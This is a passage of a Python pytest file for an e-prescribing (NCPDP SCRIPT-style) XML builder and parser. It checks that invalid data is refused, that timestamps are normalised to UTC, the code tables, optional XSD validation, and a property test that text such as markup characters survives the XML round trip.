        lambda: n.build_status(header=REPLY_TO_PHARMACY, code="999"),
        lambda: n.build_error(header=REPLY_TO_PHARMACY, code="123"),
        lambda: n.build_pa_request(header=TO_PAYER, pa_case_id="", answers=[], **PA_PARTIES),
        lambda: n.build_pa_response(header=FROM_PAYER, status="Open", pa_case_id="C"),
        lambda: n.build_pa_response(header=FROM_PAYER, status="Denied", pa_case_id="C",
                                    authorization_number="A"),
        lambda: n.build_pa_response(header=FROM_PAYER, status="Approved", pa_case_id="C",
                                    denial_reasons=["x"]),
        lambda: n.build_pa_initiation_response(header=FROM_PAYER, status="Approved", pa_case_id="C"),
        lambda: n.build_new_rx(header=TO_PHARMACY, medication=replace(MED, sig_text="bad \x00 byte"),
                               **PARTIES),
        lambda: n.build_new_rx(header=TO_PHARMACY, medication=replace(MED, description="\ufffe"),
                               **PARTIES),
    ],
)
def test_builders_refuse_invalid_data(make):
    with pytest.raises(ValueError):
        make()


def test_header_sent_time_is_utc_with_z():
    eastern = timezone(timedelta(hours=-5))
    h = n.Header(to=PHARMACY_PARTY, from_=PRESCRIBER_PARTY, message_id="M",
                 sent_time=datetime(2025, 1, 1, 19, 0, 0, 123456, tzinfo=eastern))
    assert h.sent_time == datetime(2025, 1, 2, 0, 0, 0, 123000, tzinfo=UTC)
    xml = n.build_new_rx(header=h, medication=MED, **PARTIES)
    assert "<SentTime>2025-01-02T00:00:00.123Z</SentTime>" in xml
    default = n.Header(to=PHARMACY_PARTY, from_=PRESCRIBER_PARTY, message_id="M")
    assert default.sent_time.tzinfo is UTC


# ---- constants -------------------------------------------------------------------------------


def test_code_tables():
    assert set(n.DENIAL_REASON_CODES) == {
        "AA", "AB", "AC", "AD", "AE", "AF", "AG", "AM", "AN", "AP", "BE", "CZ", "DA",
    }
    assert n.FILL_STATUSES == {"Dispensed": "AH", "PartiallyDispensed": "AJ", "NotDispensed": "AK",
                               "Transferred": ""}
    assert set(n.ERROR_CODES) == {"600", "601", "602", "700", "900"}
    assert {"000", "010"} <= set(n.STATUS_CODES)


# ---- optional XSD validation -------------------------------------------------------------------


def test_validate_against_xsd_returns_none_without_schemas(tmp_path):
    assert n.validate_against_xsd(GOOD_NEWRX, None) is None
    assert n.validate_against_xsd(GOOD_NEWRX, "") is None
    assert n.validate_against_xsd(GOOD_NEWRX, tmp_path / "missing") is None
    assert n.validate_against_xsd(GOOD_NEWRX, tmp_path) is None  # no transport.xsd in it


# A tiny schema of our own (not NCPDP's) to exercise the validation path when lxml is present.
TOY_XSD = """<?xml version="1.0"?>
<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">
  <xs:element name="Message">
    <xs:complexType>
      <xs:sequence>
        <xs:element name="Header" type="xs:anyType"/>
        <xs:element name="Body" type="xs:anyType"/>
      </xs:sequence>
      <xs:anyAttribute processContents="skip"/>
    </xs:complexType>
  </xs:element>
</xs:schema>
"""


def test_validate_against_xsd_with_schema(tmp_path):
    (tmp_path / "transport.xsd").write_text(TOY_XSD)
    result = n.validate_against_xsd(GOOD_NEWRX, tmp_path)
    if importlib.util.find_spec("lxml") is None:
        assert result is None  # lxml is optional and not a project dependency
        return
    assert result == []
    assert n.validate_against_xsd(GOOD_NEWRX.encode(), tmp_path / "transport.xsd") == []
    errors = n.validate_against_xsd("<Message><Body/></Message>", tmp_path)
    assert errors and "Header" in errors[0]


# ---- property: text survives the round trip -------------------------------------------------------

# Any XML-legal text, biased towards markup characters; surrogates and C0 controls other than
# tab/LF/CR cannot appear in XML 1.0 and are refused by the builders (tested above).
_xml_text = st.lists(
    st.one_of(
        st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff"),
        st.sampled_from(list("&<>\"';\t\n\r]") + ["]]>", "&amp;", "<!--", "\r\n", "é", "漢", "🙂", "\u00a0"]),
    ),
    max_size=30,
).map("".join)


def _expected_text(value: str) -> str:
    return value.replace("\r\n", "\n").replace("\r", "\n").strip()


@settings(max_examples=150, deadline=None)
@given(description=_xml_text, sig=_xml_text, last=_xml_text, first=_xml_text, city=_xml_text,
       quantity=st.decimals(min_value=0, max_value=10**6, places=3, allow_nan=False, allow_infinity=False),
       refills=st.integers(min_value=0, max_value=99))
def test_round_trip_of_text_property(description, sig, last, first, city, quantity, refills):
    med = n.MedicationInfo(description=description, sig_text=sig, quantity=quantity, refills=refills)
    patient = n.PatientInfo(last_name=last, first_name=first, city=city)
    xml = n.build_new_rx(header=TO_PHARMACY, patient=patient, pharmacy=PHARMACY, prescriber=PRESCRIBER,
                         medication=med)
    msg = n.parse_message(xml)
    assert msg.medication_prescribed.description == _expected_text(description)
    assert msg.medication_prescribed.sig_text == _expected_text(sig)
    assert msg.medication_prescribed.quantity == quantity
    assert msg.medication_prescribed.refills == refills
    assert msg.patient.last_name == _expected_text(last)
    assert msg.patient.first_name == _expected_text(first)
    assert msg.patient.city == _expected_text(city)
    assert n.parse_message(_namespaced(xml)) == msg
